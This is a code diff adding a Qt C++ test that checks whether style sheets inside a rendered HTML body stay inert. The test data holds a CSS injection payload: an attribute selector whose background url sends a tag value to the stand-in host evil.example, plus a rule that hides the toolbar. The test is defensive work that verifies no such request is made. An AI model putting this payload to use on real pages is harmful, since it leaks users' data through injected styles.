@@ -323,6 +323,49 @@ private Q_SLOTS:
     }
 
     // Every vector at once, written into the source view and applied.
+    // A body's style sheet never acts on the page: it neither styles the page's elements nor
+    // makes a request, and the body keeps it as it was written.
+    void bodyStyleSheetsStayInert_data()
+    {
+        QTest::addColumn<QString>("body");
+        QTest::addColumn<bool>("viaSource");
+        const QString rules =
+            QStringLiteral("#toolbar{display:none} span[data-tag^=\"Secret\"]{background:url("
+                           "https://evil.example/leak?tag=Secret)}");
+        const QString tagged = QStringLiteral(
+            "<p><span data-hash=\"s1\" data-colour=\"red\" id=\"s1\" data-tag=\"Secret plan\">"
+            "plan</span></p>");
+        QTest::newRow("style element") << "<style>" + rules + "</style>" + tagged << false;
+        QTest::newRow("style with its own type")
+            << "<style media=\"all\" type=\"text/css\">" + rules + "</style>" + tagged << false;
+        QTest::newRow("style in an svg image")
+            << "<svg><style>" + rules + "</style></svg>" + tagged << false;
+        QTest::newRow("applied from the source view")
+            << "<style>" + rules + "</style>" + tagged << true;
+    }
+    void bodyStyleSheetsStayInert()
+    {
+        QFETCH(QString, body);
+        QFETCH(bool, viaSource);
+        QVERIFY(F->LoadPage());
+        if (viaSource) {
+            QVERIFY(ApplySource(body));
+        } else {
+            QVERIFY(Show(body));
+        }
+        QTest::qWait(500);
+        QCOMPARE(F->JsText(QStringLiteral("getComputedStyle(pageEl['toolbar']).display")),
+                 QStringLiteral("flex"));
+        QVERIFY(F->Js(QStringLiteral("pageEl['toolbar'].offsetHeight > 0")).toBool());
+        for (const QString& url : F->Interceptor()->FRequests) {
+            QVERIFY2(!url.contains(QLatin1String("evil.example")), qPrintable(url));
+        }
+        QCOMPARE(F->CleanHtml(), body);
+        F->Click(QStringLiteral("#btn-source"));
+        QCOMPARE(F->JsText(QStringLiteral("sourceView.value")),
+                 F->JsText(QStringLiteral("prettyHTML(%1)").arg(JsString(body))));
+    }
+
     void sourceViewContentNeverRuns()
     {
         QList<int> all;
